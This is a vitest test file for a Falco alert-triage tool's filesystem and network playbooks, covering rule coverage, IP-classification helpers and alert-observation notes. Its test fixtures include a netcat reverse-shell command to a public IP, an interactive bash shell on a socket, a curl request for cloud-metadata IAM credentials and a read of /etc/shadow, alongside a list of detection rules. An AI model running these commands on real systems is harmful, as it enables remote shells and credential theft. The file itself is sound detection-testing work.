import { describe, expect, it } from 'vitest';
import type { Alert, OutputFields } from '../../../model';
import type { Playbook } from '../../types';
import { classifyIp, parseConnection, remoteEndpoint } from './helpers';
import { PLAYBOOKS } from './index';
import { noteText } from '../../observation';

/** The syscall rules assigned to this folder (current names). */
const ASSIGNED = [
  'Adding ssh keys to authorized_keys',
  'Clear Log Activities',
  'Contact EC2 Instance Metadata Service From Container',
  'Contact K8S API Server From Container',
  'Contact cloud metadata service from container',
  'Container Access to Host Sensitive Paths',
  'Container Drift Detected (chmod)',
  'Container Drift Detected (open+create)',
  'Create Hardlink Over Sensitive Files',
  'Create Hidden Files or Directories',
  'Create Symlink Over Sensitive Files',
  'Create files below dev',
  'Delete or rename shell history',
  'Detect outbound connections to common miner pool ports',
  'Directory traversal monitored file read',
  'Disallowed SSH Connection',
  'Disallowed SSH Connection Non Standard Port',
  'Exfiltrating Artifacts via Kubernetes Control Plane',
  'Interpreted procs inbound network activity',
  'Interpreted procs outbound network activity',
  'Launch Ingress Remote File Copy Tools in Container',
  'Launch Remote File Copy Tools in Container',
  'Launch Suspicious Network Tool in Container',
  'Launch Suspicious Network Tool on Host',
  'Mkdir binary dirs',
  'Modify Container Entrypoint',
  'Modify Shell Configuration File',
  'Modify binary dirs',
  'Mount Launched in Privileged Container',
  'Netcat Remote Code Execution in Container',
  'Netcat/Socat Remote Code Execution on Host',
  'Network Connection outside Local Subnet',
  'Network Tool Executed During NPM Package Install',
  'Outbound Connection to C2 Servers',
  'Outbound or Inbound Traffic not to Authorized Server Process and Port',
  'Packet socket created in container',
  'Privileged Container Device Access',
  'Read Shell Configuration File',
  'Read environment variable from /proc files',
  'Read sensitive file trusted after startup',
  'Read sensitive file untrusted',
  'Read ssh information',
  'Redirect STDOUT/STDIN to Network Connection in Container',
  'Remove Bulk Data from Disk',
  'Reverse Shell from Web Server',
  'Schedule Cron Jobs',
  'Search Private Keys or Passwords',
  'Sudo Potential Privilege Escalation',
  'System procs network activity',
  'Unexpected K8s NodePort Connection',
  'Unexpected UDP Traffic',
  'Unexpected inbound connection source',
  'Unexpected outbound connection destination',
  'Update Package Repository',
  'Write below binary dir',
  'Write below etc',
  'Write below monitored dir',
  'Write below root',
  'Write below rpm database',
];

let nextId = 0;
function alert(rule: string, outputFields: OutputFields): Alert {
  return {
    id: nextId++,
    file: 'test.ndjson',
    line: 1,
    rule,
    priority: 'Warning',
    time: '',
    timeMs: Number.NaN,
    output: '',
    outputFields,
    source: 'syscall',
    sourceInferred: false,
    tags: [],
  };
}

function playbook(rule: string): Playbook {
  const found = PLAYBOOKS.find((p) => p.rules.includes(rule));
  if (!found) throw new Error(`no playbook for ${rule}`);
  return found;
}

function observe(rule: string, fields: OutputFields): string[] {
  return (playbook(rule).observe?.(alert(rule, fields)) ?? []).map(noteText);
}

/** True when some `{field}` placeholder sits inside single or double quotes. */
function placeholderInsideQuotes(command: string): boolean {
  let quote: string | null = null;
  for (let i = 0; i < command.length; i++) {
    const ch = command[i];
    if (quote) {
      if (ch === quote) quote = null;
      else if (ch === '{' && /^\{[a-z][a-z0-9_.[\]]*\}/.test(command.slice(i))) return true;
    } else if (ch === "'" || ch === '"') {
      quote = ch;
    }
  }
  return false;
}

describe('filesystem-network playbooks: coverage and shape', () => {
  it('has exactly one playbook for every assigned rule', () => {
    for (const rule of ASSIGNED) {
      expect(PLAYBOOKS.filter((p) => p.rules.includes(rule)), rule).toHaveLength(1);
    }
    expect(PLAYBOOKS).toHaveLength(ASSIGNED.length);
  });

  it('uses unique kebab-case ids, current rule names as titles and a valid family', () => {
    const ids = new Set<string>();
    for (const p of PLAYBOOKS) {
      expect(p.id).toMatch(/^(fs|net)-[a-z0-9]+(-[a-z0-9]+)*$/);
      expect(ids.has(p.id), p.id).toBe(false);
      ids.add(p.id);
      expect(p.title).toBe(p.rules[0]);
      expect(['filesystem', 'network']).toContain(p.family);
    }
  });

  it('keeps sections within the agreed sizes and prose free of Markdown', () => {
    for (const p of PLAYBOOKS) {
      expect(p.benignCauses.length, p.id).toBeGreaterThanOrEqual(1);
      expect(p.distinguish.length, p.id).toBeGreaterThanOrEqual(2);
      expect(p.investigate.length, p.id).toBeGreaterThanOrEqual(2);
      expect(p.investigate.length, p.id).toBeLessThanOrEqual(5);
      expect(p.tuningFields.length, p.id).toBeGreaterThanOrEqual(1);
      expect(p.tuningFields.length, p.id).toBeLessThanOrEqual(3);
      for (const key of ['immediate', 'shortTerm', 'longTerm'] as const) {
        expect(p.mitigations[key].length, `${p.id} ${key}`).toBeGreaterThanOrEqual(1);
        expect(p.mitigations[key].length, `${p.id} ${key}`).toBeLessThanOrEqual(3);
      }
      const prose = [p.detects, p.whyItMatters, ...p.benignCauses, ...p.distinguish, ...Object.values(p.mitigations).flat()];
      for (const text of prose) expect(text, p.id).not.toMatch(/`|\*\*|^#/);
      for (const f of p.tuningFields) expect(f, p.id).toMatch(/^[a-z0-9_.]+$/);
    }
  });

  it('writes placeholders as whole shell words, never inside quotes, and no falco commands', () => {
    for (const p of PLAYBOOKS) {
      for (const c of p.investigate) {
        expect(placeholderInsideQuotes(c.command), `${p.id}: ${c.command}`).toBe(false);
        expect(c.command, p.id).not.toMatch(/(^|\s)falco(\s|$)/);
      }
    }
  });

  it('observe functions tolerate alerts without fields', () => {
    for (const p of PLAYBOOKS) {
      expect(p.observe?.(alert(p.rules[0] ?? '', {})) ?? [], p.id).toEqual([]);
    }
  });
});

describe('address helpers', () => {
  it('classifies private, loopback, link-local, metadata and public IPv4 addresses', () => {
    expect(classifyIp('10.96.0.1')).toEqual({ scope: 'private', range: '10.0.0.0/8' });
    expect(classifyIp('172.16.0.1')?.scope).toBe('private');
    expect(classifyIp('172.31.255.255')?.scope).toBe('private');
    expect(classifyIp('172.15.0.1')?.scope).toBe('public');
    expect(classifyIp('172.32.0.1')?.scope).toBe('public');
    expect(classifyIp('192.168.1.20')?.scope).toBe('private');
    expect(classifyIp('127.0.0.53')?.scope).toBe('loopback');
    expect(classifyIp('169.254.169.254')?.scope).toBe('metadata');
    expect(classifyIp('169.254.1.1')?.scope).toBe('link-local');
    expect(classifyIp('100.64.3.4')?.scope).toBe('shared');
    expect(classifyIp('203.0.113.9')?.scope).toBe('documentation');
    expect(classifyIp('45.33.32.156')?.scope).toBe('public');
    expect(classifyIp('256.1.1.1')).toBeUndefined();
    expect(classifyIp('kubernetes.default')).toBeUndefined();
  });

  it('classifies IPv6 addresses', () => {
    expect(classifyIp('::1')?.scope).toBe('loopback');
    expect(classifyIp('fe80::1')?.scope).toBe('link-local');
    expect(classifyIp('fd12:3456::1')?.scope).toBe('private');
    expect(classifyIp('fd00:ec2::254')?.scope).toBe('metadata');
    expect(classifyIp('::ffff:10.0.0.1')?.scope).toBe('private');
    expect(classifyIp('2606:4700::1111')?.scope).toBe('public');
  });

  it('parses Falco connection strings and picks the remote side by port', () => {
    expect(parseConnection('172.17.0.9:43812->10.96.0.1:443')).toEqual({
      client: { ip: '172.17.0.9', port: '43812' },
      server: { ip: '10.96.0.1', port: '443' },
    });
    expect(parseConnection('2001:db8::5:50000->2606:4700::1111:443')?.server).toEqual({ ip: '2606:4700::1111', port: '443' });
    expect(parseConnection('/var/run/docker.sock')).toBeUndefined();
    const inbound = alert('x', { 'fd.name': '198.51.100.7:51000->10.0.0.5:22', 'fd.lport': 22, 'fd.rport': 51000 });
    expect(remoteEndpoint(inbound, 'either')?.ip).toBe('198.51.100.7');
    const outbound = alert('x', { 'fd.name': '10.0.0.5:51000->45.33.32.156:443', 'fd.lport': 51000, 'fd.rport': 443 });
    expect(remoteEndpoint(outbound, 'either')?.ip).toBe('45.33.32.156');
  });
});

describe('observe on realistic alerts', () => {
  it('flags event-generator running as itself (Read sensitive file untrusted)', () => {
    const notes = observe('Read sensitive file untrusted', {
      'container.id': '2ae6a7f15b6e',
      'container.name': 'elastic-package-service-10413-falco-event-generator-1',
      'evt.type': 'openat',
      'fd.name': '/etc/shadow',
      'proc.aname[2]': 'containerd-shim',
      'proc.aname[3]': 'init',
      'proc.aname[4]': null,
      'proc.cmdline': 'event-generator run --loop',
      'proc.exepath': '/bin/event-generator',
      'proc.name': 'event-generator',
      'proc.pname': 'containerd-shim',
      'proc.tty': 0,
      'user.loginuid': -1,
      'user.name': 'root',
      'user.uid': 0,
    });
    expect(notes[0]).toMatch(/event-generator.*proc\.name, proc\.exepath, proc\.cmdline, container\.name/);
    expect(notes.some((n) => n.includes('password hashes'))).toBe(true);
    expect(notes.some((n) => n.startsWith('proc.tty'))).toBe(false);
    expect(notes.some((n) => n.startsWith('user.loginuid'))).toBe(false);
  });

  it('describes an interactive sudo read of /etc/shadow on the host', () => {
    const notes = observe('Read sensitive file untrusted', {
      'container.id': 'host',
      'container.name': 'host',
      'evt.type': 'openat',
      'fd.name': '/etc/shadow',
      'proc.aname[2]': 'sudo',
      'proc.aname[3]': 'zsh',
      'proc.aname[4]': 'kitty',
      'proc.cmdline': 'cat /etc/shadow',
      'proc.exepath': '/usr/bin/cat',
      'proc.name': 'cat',
      'proc.pname': 'sudo',
      'proc.tty': 34820,
      'user.loginuid': 1000,
      'user.name': 'root',
      'user.uid': 0,
    });
    expect(notes.join('\n')).not.toMatch(/event-generator/);
    expect(notes).toContain('container.id=host: this happened on the node itself, outside any container.');
    expect(notes.some((n) => n.startsWith('proc.tty=34820'))).toBe(true);
    expect(notes.find((n) => n.startsWith('user.loginuid=1000'))).toMatch(/runs as root \(uid 0\), switched through sudo \(proc\.pname\)/);
  });

  it('explains event-generator borrowing a server name (Read sensitive file trusted after startup)', () => {
    const notes = observe('Read sensitive file trusted after startup', {
      'container.id': '2ae6a7f15b6e',
      'container.name': 'elastic-package-service-10413-falco-event-generator-1',
      'fd.name': '/etc/shadow',
      'proc.cmdline': 'httpd --loglevel info run ^syscall.ReadSensitiveFileUntrusted$ --sleep 6s',
      'proc.exepath': '/bin/event-generator',
      'proc.name': 'httpd',
      'proc.pcmdline': 'event-generator run --loop',
      'proc.pname': 'event-generator',
      'user.loginuid': -1,
    });
    expect(notes[0]).toMatch(/proc\.exepath, proc\.cmdline, proc\.pname, proc\.pcmdline/);
    expect(notes[1]).toMatch(/proc\.name is httpd but proc\.exepath is \/bin\/event-generator/);
  });

  it('marks the API server peer as private (Contact K8S API Server From Container)', () => {
    const notes = observe('Contact K8S API Server From Container', {
      'container.id': '12fc4de5ccc3',
      'container.image.repository': 'devopps/falco-pod-delete',
      'fd.name': '172.17.0.9:43812->10.96.0.1:443',
      'k8s.ns.name': 'openfaas-fn',
      'k8s.pod.name': 'falco-pod-delete-7dc9f5fbb8-gbfk7',
      'proc.cmdline': 'handler',
    });
    expect(notes.some((n) => /10\.96\.0\.1 is a private address \(10\.0\.0\.0\/8\)/.test(n))).toBe(true);
    expect(notes.some((n) => n.includes('kubeadm'))).toBe(true);
  });

  it('calls out credential requests to the metadata endpoint', () => {
    const notes = observe('Contact EC2 Instance Metadata Service From Container', {
      'container.id': 'a1b2c3d4e5f6',
      'fd.name': '10.244.1.17:39812->169.254.169.254:80',
      'fd.lport': 39812,
      'fd.rport': 80,
      'proc.name': 'curl',
      'proc.cmdline': 'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role',
      'proc.pname': 'sh',
    });
    expect(notes.some((n) => n.includes('cloud instance metadata endpoint'))).toBe(true);
    expect(notes.some((n) => n.includes('IAM role'))).toBe(true);
  });

  it('flags a public pool address on a Stratum port', () => {
    const notes = observe('Detect outbound connections to common miner pool ports', {
      'fd.rip': '45.33.32.156',
      'fd.name': '10.0.3.4:51544->45.33.32.156:3333',
      'fd.rport': 3333,
      'proc.name': 'kthreadd2',
      'proc.exepath': '/tmp/.x/kthreadd2',
    });
    expect(notes.some((n) => n.includes('public, Internet-routable'))).toBe(true);
    expect(notes.some((n) => n.includes('Stratum'))).toBe(true);
    expect(notes.some((n) => n.includes('/tmp/'))).toBe(true);
  });

  it('recognises a reverse shell peer and shell on a socket', () => {
    const notes = observe('Redirect STDOUT/STDIN to Network Connection in Container', {
      'container.id': '9f1e2d3c4b5a',
      'fd.sip': '45.33.32.156',
      'fd.name': '10.244.0.12:40312->45.33.32.156:4444',
      'fd.lport': 40312,
      'fd.rport': 4444,
      'proc.name': 'bash',
      'proc.pname': 'php-fpm',
      'proc.cmdline': 'bash -i',
    });
    expect(notes.some((n) => n.includes('Remote end (fd.name, server side, port 4444) 45.33.32.156 is a public'))).toBe(true);
    expect(notes.some((n) => n.includes('remote shell'))).toBe(true);
    expect(notes.some((n) => n.includes('proc.pname=php-fpm is a web server'))).toBe(true);
  });

  it('notes Falco\'s own pod and a runtime-started process (Write below root)', () => {
    const notes = observe('Write below root', {
      'container.id': 'c0a8e388a8c2',
      'container.image.repository': 'falcosecurity/falco',
      'fd.name': '/wjd-test',
      'k8s.ns.name': 'kube-falco',
      'k8s.pod.name': 'falco-zjsqj',
      'proc.cmdline': 'touch /wjd-test',
      'proc.name': 'touch',
      'proc.pname': 'runc:[1:CHILD]',
      'user.loginuid': -1,
      'user.name': 'root',
    });
    expect(notes.some((n) => n.includes("Falco's own container"))).toBe(true);
    expect(notes.some((n) => n.includes('kubectl exec'))).toBe(true);
  });

  it('recognises zsh removing its history lock file (older rule version)', () => {
    const notes = observe('Delete or rename shell history', {
      'container.id': 'host',
      'container.name': 'host',
      'evt.arg.name': '<NA>',
      'evt.arg.oldpath': '<NA>',
      'evt.arg.path': '/home/vagrant/.zsh_history.LOCK',
      'evt.type': 'unlink',
      'fd.name': '<NA>',
      'proc.cmdline': 'zsh',
      'user.name': 'vagrant',
    });
    expect(notes.some((n) => n.includes("zsh's history lock file"))).toBe(true);
  });

  it('spots the loose nc match on the host variant', () => {
    const notes = observe('Netcat/Socat Remote Code Execution on Host', {
      'container.id': 'host',
      'proc.name': 'nc',
      'proc.cmdline': 'nc -zv build-east 22',
      'proc.pname': 'bash',
    });
    expect(notes.some((n) => n.includes('false positive'))).toBe(true);
    const real = observe('Netcat/Socat Remote Code Execution on Host', {
      'proc.name': 'nc',
      'proc.cmdline': 'nc 45.33.32.156 4444 -e /bin/sh',
    });
    expect(real.some((n) => n.includes('false positive'))).toBe(false);
    expect(real.some((n) => n.includes('proc.cmdline contains 45.33.32.156, which is a public'))).toBe(true);
  });

  it('says nothing when values are unremarkable', () => {
    expect(
      observe('Unexpected UDP Traffic', {
        'container.id': '0123456789ab',
        'fd.name': '<NA>',
        'proc.name': 'statsd',
        'proc.tty': 0,
        'user.loginuid': -1,
      }),
    ).toEqual([]);
  });
});
